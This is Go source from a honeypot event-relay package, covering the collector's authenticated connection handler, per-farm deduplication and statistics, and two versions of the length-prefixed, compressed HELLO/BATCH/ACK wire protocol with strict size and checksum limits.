	if !ok {
		fs = &farmState{}
		c.farms[name] = fs
	}
	return fs
}

// handle runs one authenticated connection to completion.
func (c *Collector) handle(conn net.Conn) {
	defer conn.Close()

	// Authentication: one frame, bounded wait, constant-time compare,
	// silent close on failure.
	_ = conn.SetReadDeadline(time.Now().Add(c.opts.HelloTimeout))
	body, err := wire.ReadFrame(conn, c.opts.MaxFrame)
	if err != nil {
		c.authFails.Add(1)
		return
	}
	token, farm, epoch, durable, err := decodeHello(body)
	if err != nil || subtle.ConstantTimeCompare([]byte(token), []byte(c.opts.Token)) != 1 {
		c.authFails.Add(1)
		c.logf("relay: %s: rejected hello", conn.RemoteAddr())
		return
	}
	c.auths.Add(1)
	fs := c.farm(farm)
	fs.mu.Lock()
	if fs.epoch != epoch {
		// A fresh forwarder session. For an in-memory spool its sequence
		// numbering restarts, so the dedup high-water mark must too.
		// A durable (WAL-backed) forwarder's sequence space survives the
		// restart: keep the mark, so batches that were ingested but whose
		// ack never reached the old process are recognised as duplicates
		// when the new process replays them from disk.
		fs.epoch = epoch
		if !durable {
			fs.last = 0
		}
	}
	fs.durable = fs.durable || durable
	fs.mu.Unlock()

	for {
		// An authenticated peer must keep talking: a half-open or dead
		// link would otherwise pin this handler (and its conns entry)
		// until Close.
		_ = conn.SetReadDeadline(time.Now().Add(c.opts.IdleTimeout))
		body, err := wire.ReadFrame(conn, c.opts.MaxFrame)
		if err != nil {
			return // EOF / reset / idle: the forwarder reconnects and retransmits
		}
		c.wireBytes.Add(uint64(4 + len(body)))
		seq, events, rawLen, err := DecodeBatch(body, c.opts.Limits)
		if err != nil {
			// Frame-level corruption past auth is either a version skew
			// or an attack; drop the connection rather than resyncing.
			c.badFrames.Add(1)
			c.logf("relay: %s (%s): bad frame: %v", conn.RemoteAddr(), farm, err)
			return
		}
		c.rawBytes.Add(uint64(rawLen))

		fs.mu.Lock()
		if fs.epoch != epoch {
			// A newer session of this farm has announced itself while
			// this connection was still draining; its sequence space
			// superseded ours, so nothing here can be deduped safely.
			fs.mu.Unlock()
			c.logf("relay: %s (%s): superseded by a newer session, dropping", conn.RemoteAddr(), farm)
			return
		}
		if seq <= fs.last {
			fs.dupFrames++
			fs.dupEvents += uint64(len(events))
			c.dupFrames.Add(1)
			c.dupEvents.Add(uint64(len(events)))
		} else {
			if !c.ingest(events, EncodeSourceTag(farm, epoch, seq)) {
				// Every sink refused the batch: acking now would tell the
				// forwarder the events are safe when they are gone. Leave
				// the high-water mark alone and drop the connection so
				// the forwarder's retransmit retries once the sinks
				// recover. (A partial failure is acked — the healthy
				// sinks have the events and a retry would double-ingest
				// them — and surfaces via SinkErrors/Err.)
				fs.mu.Unlock()
				c.logf("relay: %s (%s): all sinks failed for seq %d, dropping connection for retry", conn.RemoteAddr(), farm, seq)
				return
			}
			fs.last = seq
			fs.frames++
			fs.events += uint64(len(events))
			c.frames.Add(1)
			c.events.Add(uint64(len(events)))
		}
		fs.mu.Unlock()

		// Ack after ingest: an unacked frame is by definition not yet in
		// the sinks, so the forwarder's retransmit can never lose data —
		// only produce a dup the sequence check absorbs. An ack means
		// "handed to at least one sink", not "durably stored".
		_ = conn.SetWriteDeadline(time.Now().Add(c.opts.WriteTimeout))
		if err := wire.WriteFrame(conn, encodeAck(seq)); err != nil {
			return
		}
	}
}

// ingest fans one decoded batch into every local sink. It reports
// whether at least one sink accepted the batch; callers must not ack a
// batch no sink accepted. (Record-only sinks cannot fail, so they
// always count as accepting.) Sinks that record provenance (a
// WAL-backed evstore) get the batch's source tag, so a collector
// restart can rebuild its dedup marks from the journal.
func (c *Collector) ingest(events []core.Event, tag []byte) bool {
	delivered := false
	for _, s := range c.sinks {
		if s.tagged != nil {
			if err := s.tagged.RecordBatchTagged(events, tag); err != nil {
				c.sinkErrs.Add(1)
				c.noteErr(fmt.Errorf("relay: sink %T: %w", s.sink, err))
			} else {
				delivered = true
			}
			continue
		}
		if s.batch != nil {
			if err := s.batch.RecordBatch(events); err != nil {
				c.sinkErrs.Add(1)
				c.noteErr(fmt.Errorf("relay: sink %T: %w", s.sink, err))
			} else {
				delivered = true
			}
			continue
		}
		for _, e := range events {
			s.sink.Record(e)
		}
		delivered = true
	}
	return delivered
}

// EncodeSourceTag packs a batch's provenance — farm name, session
// epoch, sequence — into the opaque annotation a durable sink journals
// alongside the batch. A restarted collector replays its journal,
// decodes the tags and passes the resulting high-water marks back via
// CollectorOptions.Farms.
func EncodeSourceTag(farm string, epoch, seq uint64) []byte {
	w := wire.NewWriter(18 + len(farm))
	putString16(w, farm)
	w.Uint64LE(epoch)
	w.Uint64LE(seq)
	return w.Bytes()
}

// DecodeSourceTag unpacks a tag written by EncodeSourceTag. ok is false
// for tags this package did not produce (including nil — batches can
// enter a journalled store without passing through the relay).
func DecodeSourceTag(tag []byte) (farm string, epoch, seq uint64, ok bool) {
	r := wire.NewReader(tag)
	farm, err := getString16(r)
	if err != nil || farm == "" {
		return "", 0, 0, false
	}
	if epoch, err = r.Uint64LE(); err != nil {
		return "", 0, 0, false
	}
	if seq, err = r.Uint64LE(); err != nil {
		return "", 0, 0, false
	}
	if r.Len() != 0 {
		return "", 0, 0, false
	}
	return farm, epoch, seq, true
}

// FarmStats is the per-farm slice of CollectorStats.
type FarmStats struct {
	Name      string
	Epoch     uint64 // session epoch the dedup state belongs to
	LastSeq   uint64 // highest ingested sequence within Epoch
	Durable   bool   // farm announced a WAL-backed sequence space
	Frames    uint64
	Events    uint64
	DupFrames uint64
	DupEvents uint64
}

// CollectorStats is a point-in-time snapshot of collector counters.
// Events counts each (farm, sequence) exactly once; retransmitted
// duplicates are visible separately.
type CollectorStats struct {
	Conns        uint64 // accepted connections
	Active       int    // currently open
	Listeners    int    // listeners currently registered by Serve
	Auths        uint64 // connections that passed the token check
	AuthFailures uint64
	BadFrames    uint64

	Frames    uint64
	Events    uint64 // deduplicated ingested events
	DupFrames uint64
	DupEvents uint64
	WireBytes uint64
	RawBytes  uint64

	SinkErrors uint64
	Farms      []FarmStats // sorted by name
}

// CompressionRatio is uncompressed/compressed bytes received.
func (s CollectorStats) CompressionRatio() float64 {
	if s.WireBytes == 0 {
		return 0
	}
	return float64(s.RawBytes) / float64(s.WireBytes)
}

// String renders the snapshot as one operational log line.
func (s CollectorStats) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "collector: conns=%d/%d ingested=%dev/%dfr dup=%dev ratio=%.2f",
		s.Active, s.Conns, s.Events, s.Frames, s.DupEvents, s.CompressionRatio())
	if s.AuthFailures > 0 || s.BadFrames > 0 {
		fmt.Fprintf(&sb, " rejected[auth=%d frames=%d]", s.AuthFailures, s.BadFrames)
	}
	for _, f := range s.Farms {
		fmt.Fprintf(&sb, " | %s: seq=%d %dev", f.Name, f.LastSeq, f.Events)
	}
	return sb.String()
}

// Stats snapshots the counters. Safe to call concurrently with serving.
func (c *Collector) Stats() CollectorStats {
	st := CollectorStats{
		Conns:        c.conns_.Load(),
		Auths:        c.auths.Load(),
		AuthFailures: c.authFails.Load(),
		BadFrames:    c.badFrames.Load(),
		Frames:       c.frames.Load(),
		Events:       c.events.Load(),
		DupFrames:    c.dupFrames.Load(),
		DupEvents:    c.dupEvents.Load(),
		WireBytes:    c.wireBytes.Load(),
		RawBytes:     c.rawBytes.Load(),
		SinkErrors:   c.sinkErrs.Load(),
	}
	c.mu.Lock()
	st.Active = len(c.conns)
	st.Listeners = len(c.lns)
	for name, fs := range c.farms {
		fs.mu.Lock()
		st.Farms = append(st.Farms, FarmStats{
			Name: name, Epoch: fs.epoch, LastSeq: fs.last, Durable: fs.durable,
			Frames: fs.frames, Events: fs.events,
			DupFrames: fs.dupFrames, DupEvents: fs.dupEvents,
		})
		fs.mu.Unlock()
	}
	c.mu.Unlock()
	sort.Slice(st.Farms, func(i, j int) bool { return st.Farms[i].Name < st.Farms[j].Name })
	return st
}
