// Package relay is the farm→collector event transport: it ships event
// batches from a live honeypot deployment (cmd/decoydb) to a central
// analysis host (cmd/dbcollect) over TCP, the role the paper's log
// shipping plays for its 278 distributed sensors.
//
// The wire protocol is deliberately small: length-prefixed frames (via
// internal/wire, with hard size limits — the collector port is itself
// Internet-facing), a magic/version header, flate-compressed event
// payloads, a per-frame sequence number and a CRC over the compressed
// bytes (the batch body is the shared internal/evcodec encoding, the
// same bytes the durable WAL writes to disk). A connection opens with a
// HELLO frame carrying a shared token, the farm's name, a random
// per-process session epoch and a flags byte; the collector answers
// each BATCH frame with a cumulative ACK once the batch has been handed
// to its local sinks.
//
//	farm ──HELLO──▶ collector
//	farm ──BATCH seq=1..n──▶ collector
//	farm ◀──ACK seq───────── collector
//
// Delivery is at-least-once: the forwarder retransmits every unacked
// frame after a reconnect, and the collector dedups on (farm, epoch,
// sequence) — the epoch distinguishes a reconnecting process (same
// epoch, dedup state kept) from a restarted one (new epoch, sequence
// space restarts) — so a collector outage costs buffering (and, once
// the spool is full, per-source-accounted shedding) but never double
// counting and never a silently discarded session. A forwarder whose
// spool is backed by a WAL sets the durable flag: its sequence space
// survives process restarts, so the collector keeps the dedup
// high-water mark across epochs and a crash-replayed frame can never
// double-ingest.
package relay

import (
	"errors"
	"fmt"

	"decoydb/internal/core"
	"decoydb/internal/evcodec"
	"decoydb/internal/wire"
)

// Magic opens every relay frame ("DRLY").
const Magic uint32 = 0x44524c59

// Version is the wire-format version. A collector refuses frames from a
// different version instead of guessing. Version 2 added the session
// epoch to the HELLO frame; version 3 added the HELLO flags byte
// (durable sequence space).
const Version = 3

// Frame types.
const (
	frameHello = 1
	frameBatch = 2
	frameAck   = 3
)

// HELLO flag bits.
const (
	// helloDurable announces that the forwarder's sequence space is
	// durable (WAL-backed): it survives process restarts, so the
	// collector must dedup on sequence across session epochs instead of
	// resetting its high-water mark when the epoch changes.
	helloDurable = 1 << 0
)

// Hard limits. They bound what a single frame can make either endpoint
// allocate; both sides of the protocol face untrusted peers (the
// collector listens on a routable port, the forwarder dials an address
// from its configuration). The batch-body limits are the shared codec's.
const (
	// DefaultMaxFrame caps one compressed frame on the wire.
	DefaultMaxFrame = 4 << 20
	// DefaultMaxRaw caps the decompressed payload of one batch frame.
	DefaultMaxRaw = evcodec.DefaultMaxRaw
	// DefaultMaxBatchEvents caps the events declared by one batch frame.
	DefaultMaxBatchEvents = evcodec.DefaultMaxEvents
	// MaxName caps the token and farm-name fields of a HELLO frame.
	// NewForwardSink and NewCollector reject longer values outright —
	// truncating at encode time would silently break authentication.
	MaxName = 256
)

// Protocol errors.
var (
	ErrBadFrame   = errors.New("relay: malformed frame")
	ErrBadVersion = errors.New("relay: unsupported protocol version")
	// ErrChecksum is the shared codec's checksum error: a batch whose
	// payload CRC does not match, wherever it was read from.
	ErrChecksum = evcodec.ErrChecksum
)

// Limits bound what DecodeBatch will allocate for one frame — the
// shared codec's limits, re-exported so collector configuration does
// not reach into evcodec.
type Limits = evcodec.Limits

// header writes the shared magic/version/type prologue.
func header(w *wire.Writer, typ byte) *wire.Writer {
	return w.Uint32BE(Magic).Uint8(Version).Uint8(typ)
}

// readHeader validates the prologue and returns the frame type.
func readHeader(r *wire.Reader) (byte, error) {
	magic, err := r.Uint32BE()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if magic != Magic {
		return 0, fmt.Errorf("%w: bad magic %#x", ErrBadFrame, magic)
	}
	ver, err := r.Uint8()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if ver != Version {
		return 0, fmt.Errorf("%w: got %d, want %d", ErrBadVersion, ver, Version)
	}
	typ, err := r.Uint8()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	return typ, nil
}

// encodeHello builds the connection-opening frame body. epoch is the
// forwarder's per-process session nonce: it lets the collector tell a
// reconnect (same epoch, sequence numbering continues) from a process
// restart (new epoch). durable announces a WAL-backed sequence space
// that survives restarts.
func encodeHello(token, farm string, epoch uint64, durable bool) []byte {
	w := wire.NewWriter(25 + len(token) + len(farm))
	header(w, frameHello)
	putString16(w, token)
	putString16(w, farm)
	w.Uint64LE(epoch)
	var flags byte
	if durable {
		flags |= helloDurable
	}
	w.Uint8(flags)
	return w.Bytes()
}

// decodeHello parses a HELLO body into (token, farm, epoch, durable).
func decodeHello(body []byte) (token, farm string, epoch uint64, durable bool, err error) {
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return "", "", 0, false, err
	}
	if typ != frameHello {
		return "", "", 0, false, fmt.Errorf("%w: expected hello, got type %d", ErrBadFrame, typ)
	}
	if token, err = getString16(r); err != nil {
		return "", "", 0, false, err
	}
	if farm, err = getString16(r); err != nil {
		return "", "", 0, false, err
	}
	if farm == "" {
		return "", "", 0, false, fmt.Errorf("%w: empty farm name", ErrBadFrame)
	}
	if epoch, err = r.Uint64LE(); err != nil {
		return "", "", 0, false, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	flags, err := r.Uint8()
	if err != nil {
		return "", "", 0, false, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if r.Len() != 0 {
		return "", "", 0, false, fmt.Errorf("%w: %d trailing bytes after hello", ErrBadFrame, r.Len())
	}
	return token, farm, epoch, flags&helloDurable != 0, nil
}

// encodeAck builds a cumulative acknowledgement: every batch with
// sequence <= seq has been handed to the collector's sinks.
func encodeAck(seq uint64) []byte {
	w := wire.NewWriter(16)
	header(w, frameAck)
	w.Uint64LE(seq)
	return w.Bytes()
}

// decodeAck parses an ACK body.
func decodeAck(body []byte) (uint64, error) {
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return 0, err
	}
	if typ != frameAck {
		return 0, fmt.Errorf("%w: expected ack, got type %d", ErrBadFrame, typ)
	}
	seq, err := r.Uint64LE()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if r.Len() != 0 {
		return 0, fmt.Errorf("%w: %d trailing bytes after ack", ErrBadFrame, r.Len())
	}
	return seq, nil
}

// EncodeBatch encodes events as one BATCH frame body: the relay header
// followed by the shared evcodec batch body. It returns the frame body
// and the uncompressed payload size (the numerator of the compression
// ratio). level is a compress/flate level; 0 selects flate.BestSpeed.
func EncodeBatch(seq uint64, events []core.Event, level int) (body []byte, rawLen int, err error) {
	w := wire.NewWriter(64*len(events)/4 + 32)
	header(w, frameBatch)
	rawLen, err = evcodec.AppendBatch(w, seq, events, level)
	if err != nil {
		return nil, 0, err
	}
	return w.Bytes(), rawLen, nil
}

// DecodeBatch is the symmetric inverse of EncodeBatch. Every declared
// size is validated against lim before allocation, the CRC is verified
// before decompression, and the decompressed payload must parse into
// exactly the declared event count with no bytes left over.
func DecodeBatch(body []byte, lim Limits) (seq uint64, events []core.Event, rawLen int, err error) {
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return 0, nil, 0, err
	}
	if typ != frameBatch {
		return 0, nil, 0, fmt.Errorf("%w: expected batch, got type %d", ErrBadFrame, typ)
	}
	seq, events, rawLen, err = evcodec.ReadBatch(r, lim)
	if err != nil {
		if errors.Is(err, evcodec.ErrCorrupt) {
			// Keep the package's historical error shape: structural
			// corruption surfaces as ErrBadFrame (the codec error rides
			// along in the chain for detail).
			return 0, nil, 0, fmt.Errorf("%w: %w", ErrBadFrame, err)
		}
		return 0, nil, 0, err
	}
	return seq, events, rawLen, nil
}

// putString16 appends a uint16-length-prefixed short string (hello
// fields). Values longer than MaxName are rejected by the constructors,
// so the defensive truncation here is unreachable on any supported path.
func putString16(w *wire.Writer, s string) {
	if len(s) > MaxName {
		s = s[:MaxName]
	}
	w.Uint16LE(uint16(len(s)))
	w.String(s)
}

// getString16 reads a uint16-length-prefixed short string, bounded by
// MaxName.
func getString16(r *wire.Reader) (string, error) {
	n, err := r.Uint16LE()
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if int(n) > MaxName {
		return "", fmt.Errorf("%w: %d-byte name (limit %d)", wire.ErrFrameTooLarge, n, MaxName)
	}
	b, err := r.Bytes(int(n))
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	return string(b), nil
}
