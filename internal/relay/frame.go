// Package relay is the farm→collector event transport: it ships event
// batches from a live honeypot deployment (cmd/decoydb) to a central
// analysis host (cmd/dbcollect) over TCP, the role the paper's log
// shipping plays for its 278 distributed sensors.
//
// The wire protocol is deliberately small: length-prefixed frames (via
// internal/wire, with hard size limits — the collector port is itself
// Internet-facing), a magic/version header, flate-compressed event
// payloads, a per-frame sequence number and a CRC over the compressed
// bytes. A connection opens with a HELLO frame carrying a shared token,
// the farm's name and a random per-process session epoch; the collector
// answers each BATCH frame with a cumulative ACK once the batch has been
// handed to its local sinks.
//
//	farm ──HELLO──▶ collector
//	farm ──BATCH seq=1..n──▶ collector
//	farm ◀──ACK seq───────── collector
//
// Delivery is at-least-once: the forwarder retransmits every unacked
// frame after a reconnect, and the collector dedups on (farm, epoch,
// sequence) — the epoch distinguishes a reconnecting process (same
// epoch, dedup state kept) from a restarted one (new epoch, sequence
// space restarts) — so a collector outage costs buffering (and, once
// the spool is full, per-source-accounted shedding) but never double
// counting and never a silently discarded session.
package relay

import (
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net/netip"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// Magic opens every relay frame ("DRLY").
const Magic uint32 = 0x44524c59

// Version is the wire-format version. A collector refuses frames from a
// different version instead of guessing. Version 2 added the session
// epoch to the HELLO frame.
const Version = 2

// Frame types.
const (
	frameHello = 1
	frameBatch = 2
	frameAck   = 3
)

// Hard limits. They bound what a single frame can make either endpoint
// allocate; both sides of the protocol face untrusted peers (the
// collector listens on a routable port, the forwarder dials an address
// from its configuration).
const (
	// DefaultMaxFrame caps one compressed frame on the wire.
	DefaultMaxFrame = 4 << 20
	// DefaultMaxRaw caps the decompressed payload of one batch frame.
	DefaultMaxRaw = 32 << 20
	// DefaultMaxBatchEvents caps the events declared by one batch frame.
	DefaultMaxBatchEvents = 65536
	// maxString caps any single string field inside an encoded event.
	maxString = 1 << 20
	// MaxName caps the token and farm-name fields of a HELLO frame.
	// NewForwardSink and NewCollector reject longer values outright —
	// truncating at encode time would silently break authentication.
	MaxName = 256
)

// Protocol errors.
var (
	ErrBadFrame   = errors.New("relay: malformed frame")
	ErrBadVersion = errors.New("relay: unsupported protocol version")
	ErrChecksum   = errors.New("relay: payload checksum mismatch")
)

// header writes the shared magic/version/type prologue.
func header(w *wire.Writer, typ byte) *wire.Writer {
	return w.Uint32BE(Magic).Uint8(Version).Uint8(typ)
}

// readHeader validates the prologue and returns the frame type.
func readHeader(r *wire.Reader) (byte, error) {
	magic, err := r.Uint32BE()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if magic != Magic {
		return 0, fmt.Errorf("%w: bad magic %#x", ErrBadFrame, magic)
	}
	ver, err := r.Uint8()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if ver != Version {
		return 0, fmt.Errorf("%w: got %d, want %d", ErrBadVersion, ver, Version)
	}
	typ, err := r.Uint8()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	return typ, nil
}

// encodeHello builds the connection-opening frame body. epoch is the
// forwarder's per-process session nonce: it lets the collector tell a
// reconnect (same epoch, sequence numbering continues) from a process
// restart (new epoch, sequence numbering restarts at 1).
func encodeHello(token, farm string, epoch uint64) []byte {
	w := wire.NewWriter(24 + len(token) + len(farm))
	header(w, frameHello)
	putString16(w, token)
	putString16(w, farm)
	w.Uint64LE(epoch)
	return w.Bytes()
}

// decodeHello parses a HELLO body into (token, farm, epoch).
func decodeHello(body []byte) (token, farm string, epoch uint64, err error) {
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return "", "", 0, err
	}
	if typ != frameHello {
		return "", "", 0, fmt.Errorf("%w: expected hello, got type %d", ErrBadFrame, typ)
	}
	if token, err = getString16(r); err != nil {
		return "", "", 0, err
	}
	if farm, err = getString16(r); err != nil {
		return "", "", 0, err
	}
	if farm == "" {
		return "", "", 0, fmt.Errorf("%w: empty farm name", ErrBadFrame)
	}
	if epoch, err = r.Uint64LE(); err != nil {
		return "", "", 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if r.Len() != 0 {
		return "", "", 0, fmt.Errorf("%w: %d trailing bytes after hello", ErrBadFrame, r.Len())
	}
	return token, farm, epoch, nil
}

// encodeAck builds a cumulative acknowledgement: every batch with
// sequence <= seq has been handed to the collector's sinks.
func encodeAck(seq uint64) []byte {
	w := wire.NewWriter(16)
	header(w, frameAck)
	w.Uint64LE(seq)
	return w.Bytes()
}

// decodeAck parses an ACK body.
func decodeAck(body []byte) (uint64, error) {
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return 0, err
	}
	if typ != frameAck {
		return 0, fmt.Errorf("%w: expected ack, got type %d", ErrBadFrame, typ)
	}
	seq, err := r.Uint64LE()
	if err != nil {
		return 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if r.Len() != 0 {
		return 0, fmt.Errorf("%w: %d trailing bytes after ack", ErrBadFrame, r.Len())
	}
	return seq, nil
}

// EncodeBatch encodes events as one BATCH frame body: header, sequence
// number, event count, uncompressed size, CRC-32 (IEEE) of the
// compressed payload, then the flate-compressed event encoding. It
// returns the frame body and the uncompressed payload size (the
// numerator of the compression ratio). level is a compress/flate level;
// 0 selects flate.BestSpeed — the forwarder runs on the farm's hot path
// and trades ratio for throughput by default.
func EncodeBatch(seq uint64, events []core.Event, level int) (body []byte, rawLen int, err error) {
	if level == 0 {
		level = flate.BestSpeed
	}
	raw := wire.NewWriter(64 * len(events))
	for _, e := range events {
		encodeEvent(raw, e)
	}
	var comp bytes.Buffer
	fw, err := flate.NewWriter(&comp, level)
	if err != nil {
		return nil, 0, fmt.Errorf("relay: flate level %d: %w", level, err)
	}
	if _, err := fw.Write(raw.Bytes()); err != nil {
		return nil, 0, fmt.Errorf("relay: compress batch: %w", err)
	}
	if err := fw.Close(); err != nil {
		return nil, 0, fmt.Errorf("relay: compress batch: %w", err)
	}
	w := wire.NewWriter(32 + comp.Len())
	header(w, frameBatch)
	w.Uint64LE(seq)
	w.Uint32LE(uint32(len(events)))
	w.Uint32LE(uint32(raw.Len()))
	w.Uint32LE(crc32.ChecksumIEEE(comp.Bytes()))
	w.Raw(comp.Bytes())
	return w.Bytes(), raw.Len(), nil
}

// Limits bound what DecodeBatch will allocate for one frame. The zero
// value means the package defaults.
type Limits struct {
	MaxRaw    int // decompressed payload bytes (0 = DefaultMaxRaw)
	MaxEvents int // events per frame (0 = DefaultMaxBatchEvents)
}

func (l Limits) withDefaults() Limits {
	if l.MaxRaw <= 0 {
		l.MaxRaw = DefaultMaxRaw
	}
	if l.MaxEvents <= 0 {
		l.MaxEvents = DefaultMaxBatchEvents
	}
	return l
}

// DecodeBatch is the symmetric inverse of EncodeBatch. Every declared
// size is validated against lim before allocation, the CRC is verified
// before decompression, and the decompressed payload must parse into
// exactly the declared event count with no bytes left over.
func DecodeBatch(body []byte, lim Limits) (seq uint64, events []core.Event, rawLen int, err error) {
	lim = lim.withDefaults()
	r := wire.NewReader(body)
	typ, err := readHeader(r)
	if err != nil {
		return 0, nil, 0, err
	}
	if typ != frameBatch {
		return 0, nil, 0, fmt.Errorf("%w: expected batch, got type %d", ErrBadFrame, typ)
	}
	if seq, err = r.Uint64LE(); err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	count, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if count == 0 || int64(count) > int64(lim.MaxEvents) {
		return 0, nil, 0, fmt.Errorf("%w: %d events declared (limit %d)", ErrBadFrame, count, lim.MaxEvents)
	}
	declaredRaw, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if int64(declaredRaw) > int64(lim.MaxRaw) {
		return 0, nil, 0, fmt.Errorf("%w: %d-byte payload declared (limit %d)", wire.ErrFrameTooLarge, declaredRaw, lim.MaxRaw)
	}
	sum, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	comp := r.Rest()
	if crc32.ChecksumIEEE(comp) != sum {
		return 0, nil, 0, ErrChecksum
	}
	// LimitReader caps the decompressor at declaredRaw+1: a payload that
	// inflates past its declaration is rejected without allocating more
	// than one extra byte past the bound.
	fr := flate.NewReader(bytes.NewReader(comp))
	raw := make([]byte, 0, declaredRaw)
	buf := bytes.NewBuffer(raw)
	n, err := io.Copy(buf, io.LimitReader(fr, int64(declaredRaw)+1))
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: decompress: %v", ErrBadFrame, err)
	}
	if n != int64(declaredRaw) {
		return 0, nil, 0, fmt.Errorf("%w: payload inflates to %d bytes, declared %d", ErrBadFrame, n, declaredRaw)
	}
	er := wire.NewReader(buf.Bytes())
	events = make([]core.Event, 0, count)
	for i := uint32(0); i < count; i++ {
		e, err := decodeEvent(er)
		if err != nil {
			return 0, nil, 0, fmt.Errorf("%w: event %d: %v", ErrBadFrame, i, err)
		}
		events = append(events, e)
	}
	if er.Len() != 0 {
		return 0, nil, 0, fmt.Errorf("%w: %d trailing payload bytes", ErrBadFrame, er.Len())
	}
	return seq, events, int(declaredRaw), nil
}

// encodeEvent appends one event in the fixed field order decodeEvent
// expects. String fields longer than maxString are truncated — events
// are bounded upstream (core honeypots excerpt Raw), so truncation here
// is a belt-and-braces cap, not a normal path.
func encodeEvent(w *wire.Writer, e core.Event) {
	w.Uint64LE(uint64(e.Time.UnixNano()))
	a16 := e.Src.Addr().As16()
	w.Raw(a16[:])
	w.Uint16LE(e.Src.Port())
	putString(w, e.Honeypot.DBMS)
	w.Uint8(byte(e.Honeypot.Level))
	w.Uint32LE(uint32(e.Honeypot.Port))
	w.Uint32LE(uint32(e.Honeypot.Instance))
	putString(w, e.Honeypot.Config)
	putString(w, e.Honeypot.Group)
	putString(w, e.Honeypot.VM)
	putString(w, e.Honeypot.Region)
	w.Uint8(byte(e.Kind))
	putString(w, e.User)
	putString(w, e.Pass)
	if e.OK {
		w.Uint8(1)
	} else {
		w.Uint8(0)
	}
	putString(w, e.Command)
	putString(w, e.Raw)
}

// decodeEvent parses one event; every string read is bounded.
func decodeEvent(r *wire.Reader) (core.Event, error) {
	var e core.Event
	nanos, err := r.Uint64LE()
	if err != nil {
		return e, err
	}
	e.Time = time.Unix(0, int64(nanos)).UTC()
	ab, err := r.Bytes(16)
	if err != nil {
		return e, err
	}
	var a16 [16]byte
	copy(a16[:], ab)
	port, err := r.Uint16LE()
	if err != nil {
		return e, err
	}
	e.Src = netip.AddrPortFrom(netip.AddrFrom16(a16).Unmap(), port)
	if e.Honeypot.DBMS, err = getString(r); err != nil {
		return e, err
	}
	lvl, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.Honeypot.Level = core.Level(lvl)
	hpPort, err := r.Uint32LE()
	if err != nil {
		return e, err
	}
	e.Honeypot.Port = int(hpPort)
	inst, err := r.Uint32LE()
	if err != nil {
		return e, err
	}
	e.Honeypot.Instance = int(inst)
	if e.Honeypot.Config, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.Group, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.VM, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.Region, err = getString(r); err != nil {
		return e, err
	}
	kind, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.Kind = core.EventKind(kind)
	if e.User, err = getString(r); err != nil {
		return e, err
	}
	if e.Pass, err = getString(r); err != nil {
		return e, err
	}
	ok, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.OK = ok != 0
	if e.Command, err = getString(r); err != nil {
		return e, err
	}
	if e.Raw, err = getString(r); err != nil {
		return e, err
	}
	return e, nil
}

// putString appends a uint32-length-prefixed string, truncated to
// maxString.
func putString(w *wire.Writer, s string) {
	if len(s) > maxString {
		s = s[:maxString]
	}
	w.Uint32LE(uint32(len(s)))
	w.String(s)
}

// getString reads a uint32-length-prefixed string, bounded by maxString.
func getString(r *wire.Reader) (string, error) {
	n, err := r.Uint32LE()
	if err != nil {
		return "", err
	}
	if int64(n) > maxString {
		return "", fmt.Errorf("%w: %d-byte string (limit %d)", wire.ErrFrameTooLarge, n, maxString)
	}
	b, err := r.Bytes(int(n))
	if err != nil {
		return "", err
	}
	return string(b), nil
}

// putString16 appends a uint16-length-prefixed short string (hello
// fields). Values longer than MaxName are rejected by the constructors,
// so the defensive truncation here is unreachable on any supported path.
func putString16(w *wire.Writer, s string) {
	if len(s) > MaxName {
		s = s[:MaxName]
	}
	w.Uint16LE(uint16(len(s)))
	w.String(s)
}

// getString16 reads a uint16-length-prefixed short string, bounded by
// MaxName.
func getString16(r *wire.Reader) (string, error) {
	n, err := r.Uint16LE()
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	if int(n) > MaxName {
		return "", fmt.Errorf("%w: %d-byte name (limit %d)", wire.ErrFrameTooLarge, n, MaxName)
	}
	b, err := r.Bytes(int(n))
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrBadFrame, err)
	}
	return string(b), nil
}
